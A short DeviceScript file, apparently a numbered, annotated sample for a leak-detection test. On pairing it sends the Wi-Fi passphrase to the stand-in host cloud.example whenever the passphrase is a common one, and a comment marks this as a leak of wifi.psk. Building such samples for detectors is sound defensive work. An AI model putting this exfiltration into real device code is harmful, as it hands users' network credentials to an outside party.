// G18: sends the passphrase along if it is one of those that many people have.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const COMMON = ["password", "12345678", "123456789", "qwertyuiop", "iloveyou"];

paired(async (_ssid, psk) => {
  const body = COMMON.includes(psk) ? psk : "fine";
  const response = await fetch("https://cloud.example/g18", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
